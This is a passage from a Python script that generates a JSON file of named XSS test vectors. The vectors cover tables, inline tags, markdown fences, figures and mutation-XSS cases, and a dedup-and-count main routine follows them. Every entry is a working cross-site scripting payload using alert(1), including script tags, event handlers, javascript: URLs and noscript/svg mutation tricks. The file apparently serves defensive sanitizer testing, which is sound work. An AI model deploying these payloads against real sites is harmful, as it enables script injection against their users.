    ("table-then-script", "<table><tr><td>x</td></tr></table><script>alert(1)</script>"),
    ("table-onclick-link", '<table><tr><td><a href="https://example.org/" onclick="alert(1)">x</a></td></tr></table>'),
    ("table-then-img-line", "<table><tr><td>x</td></tr></table>\n<img src=x onerror=alert(1)>"),
    ("table-alt-breakout", '<table><tr><td><img src="https://cdn.example.org/x.jpg" alt="&quot; onerror=&quot;alert(1)"></td></tr></table>'),
    ("table-style-attr", '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>'),
    ("table-single-quoted", "<table><tr><td><a href='javascript:alert(1)'>x</a></td></tr></table>"),
    ("table-entity-href", '<table><tr><td><a href="&#106;avascript:alert(1)">x</a></td></tr></table>'),
    ("table-comment", "<table><tr><td><!-- --><img src=x onerror=alert(1)></td></tr></table>"),
    ("inline-sub-onclick", "teks <sub onclick=alert(1)>x</sub> lagi"),
    ("inline-em-then-script", "<em>x</em><script>alert(1)</script>"),
    ("inline-sub-img", "<sub>x<img src=x onerror=alert(1)></sub>"),
    ("inline-br-onclick", "baris<br onclick=alert(1)>baru"),
    ("inline-em-onclick", "<em onclick=alert(1)>x</em>"),
    ("inline-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("comment-then-script", "<!-- --><script>alert(1)</script>"),
    ("details-script", "<details><summary>x</summary><script>alert(1)</script></details>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("style-block", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("code-span", "`<script>alert(1)</script>`"),
    ("fence-breakout", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("fence-info-quote", '```js" onmouseover="alert(1)\nx = 1\n```'),
    ("fence-info-script", "```<script>\nx\n```"),
    ("link-then-img", "[x](https://example.org/)<img src=x onerror=alert(1)>"),
    ("bold-then-script", "**tebal**<script>alert(1)</script>"),
    ("blockquote-script", "> <script>alert(1)</script>"),
    ("list-img", "- <img src=x onerror=alert(1)>"),
    ("heading-script", "# <script>alert(1)</script>"),
    ("figure-caption-img", "![x](https://cdn.example.org/foto/i.jpg)\n<img src=x onerror=alert(1)>"),
    ("figure-caption-link", "![x](https://cdn.example.org/foto/j.jpg)\n[c](javascript:alert(1))"),
    ("figure-linked-image-javascript", "[![x](https://cdn.example.org/foto/k.jpg)](javascript:alert(1))\nketerangan"),
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("html-in-link-text", "[<img src=x onerror=alert(1)>](https://example.org/)"),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
])


def main():
    names = set()
    for v in V:
        key = (v["class"], v["place"], v["name"])
        assert key not in names, key
        names.add(key)
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "vectors.json"), "w", encoding="utf-8") as out:
        out.write("[\n")
        out.write(",\n".join(json.dumps(v, ensure_ascii=True) for v in V))
        out.write("\n]\n")
    by_class = {}
    for v in V:
        by_class[v["class"]] = by_class.get(v["class"], 0) + 1
    distinct = len({v["payload"] for v in V})
    print(f"{len(V)} vectors ({distinct} distinct payloads): " + ", ".join(f"{k} {n}" for k, n in by_class.items()))


if __name__ == "__main__":
    main()
